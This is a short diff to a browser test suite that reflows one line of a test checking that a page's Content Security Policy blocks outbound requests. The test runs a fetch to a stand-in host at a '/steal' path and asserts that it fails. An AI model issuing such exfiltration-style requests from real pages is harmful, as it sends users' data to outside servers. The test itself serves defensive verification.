@@ -42,7 +42,9 @@ def test_text_is_never_run_as_code(live: str, page: Page, watch: Watch) -> None:
 def test_nothing_leaves_for_a_foreign_server(live: str, page: Page, watch: Watch) -> None:
     watch.allow("Content Security Policy", "call to a foreign server", "Failed to fetch")
     page.goto(live)
-    outcome = page.evaluate("() => fetch('http://192.0.2.1/steal', {mode: 'no-cors'}).then(() => 'sent', error => error.name)")
+    outcome = page.evaluate(
+        "() => fetch('http://192.0.2.1/steal', {mode: 'no-cors'}).then(() => 'sent', error => error.name)"
+    )
     assert outcome == "TypeError"
 
 
